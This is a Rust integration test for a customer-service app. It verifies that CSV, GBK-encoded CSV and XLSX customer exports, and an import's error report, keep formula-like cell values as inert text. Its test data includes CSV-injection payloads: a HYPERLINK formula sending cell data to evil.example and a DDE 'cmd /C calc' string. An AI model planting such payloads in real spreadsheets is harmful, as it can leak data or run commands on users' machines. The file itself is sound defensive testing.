//! 导出 — CSV injection: a cell a customer or an import filled that begins with `=`, `+`,
//! `-` or `@` would be a formula to the spreadsheet that opens the file. The customer list
//! (UTF-8 and GBK) and an import's problem report write such a cell behind a `'`, which
//! spreadsheets read as "text"; the XLSX holds it as a text cell, no formula anywhere.

use calamine::Reader;
use kefu_domain::Role;
use kefu_testkit::{ApiClient, TEST_PASSWORD, TestApp};
use reqwest::Method;
use reqwest::multipart::{Form, Part};
use serde_json::json;

use crate::spreadsheet::{gbk_csv, utf8_csv, xlsx};

/// Names that a spreadsheet would run: a link that sends the sheet away, sums, a number
/// that is an expression.
const NAMES: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我\")",
    "+86-571-88886666+1",
    "-2+3 公司",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2 贸易",
];

#[tokio::test]
async fn cells_that_would_start_a_formula_are_kept_as_text() {
    let app = TestApp::spawn().await;
    let id = app
        .create_user("ex.info", &[Role::InfoSpecialist, Role::Agent])
        .await;
    let api = ApiClient::new(&app, &app.token_for(id).await);
    for name in NAMES {
        let res = api
            .json(Method::POST, "/api/v1/customers", &json!({"name": name}))
            .await;
        assert_eq!(res.status(), 201, "{name}: {}", res.text().await.unwrap());
    }
    let s = app.login("ex.info", TEST_PASSWORD).await;

    let res = s.get("/customers/export.csv").await;
    assert_eq!(res.status(), 200);
    let utf8 = utf8_csv(&res.bytes().await.unwrap());
    let res = s.get("/customers/export.csv?encoding=gbk").await;
    assert_eq!(res.status(), 200);
    let gbk = gbk_csv(&res.bytes().await.unwrap());
    for rows in [&utf8, &gbk] {
        let names: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
        for name in NAMES {
            assert!(
                names.contains(&format!("'{name}").as_str()),
                "{name} is guarded: {names:?}"
            );
            assert!(!names.contains(&name), "{name} is never bare");
        }
        assert!(
            rows.iter()
                .flatten()
                .all(|cell| !cell.starts_with(['=', '+', '@'])),
            "no cell starts a formula: {rows:?}"
        );
    }

    let res = s.get("/customers/export.xlsx").await;
    assert_eq!(res.status(), 200);
    let mut book = xlsx(&res.bytes().await.unwrap());
    let sheet = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&sheet).unwrap();
    let texts: Vec<String> = range
        .rows()
        .filter_map(|r| match r.first() {
            Some(calamine::Data::String(s)) => Some(s.clone()),
            _ => None,
        })
        .collect();
    for name in NAMES {
        assert!(
            texts.iter().any(|t| t == name),
            "{name} is a text cell, as typed: {texts:?}"
        );
    }
    for name in book.sheet_names() {
        let formulas = book
            .worksheet_formula(&name)
            .unwrap_or_else(|e| panic!("{name}: {e}"));
        assert!(
            formulas.rows().flatten().all(String::is_empty),
            "no formula in {name}"
        );
    }

    // An import's problem report echoes what the file held: guarded too.
    let csv = "\u{feff}客户名称,联系人,手机\n=3+4 公司,王经理,=5+6\n宁波海天五金,李经理,@SUM(A1)\n";
    let form = Form::new()
        .text("_csrf", s.csrf().await)
        .text("duplicates", "skip")
        .part(
            "file",
            Part::bytes(csv.as_bytes().to_vec()).file_name("客户.csv"),
        );
    let res = s
        .client
        .post(s.url("/customers/import"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    let html = res.text().await.unwrap();
    let i = html
        .find("/customers/imports/")
        .unwrap_or_else(|| panic!("a report link: {html}"));
    let link: String = html[i..].chars().take_while(|c| *c != '"').collect();
    let res = s.get(&link).await;
    assert_eq!(res.status(), 200);
    let report = utf8_csv(&res.bytes().await.unwrap());
    let cells: Vec<&str> = report.iter().flatten().map(String::as_str).collect();
    assert!(
        cells.contains(&"'=5+6") && cells.contains(&"'@SUM(A1)"),
        "the bad numbers are echoed guarded: {report:?}"
    );
    assert!(
        cells.iter().all(|c| !c.starts_with(['=', '+', '@'])),
        "{report:?}"
    );
    app.stop().await;
}
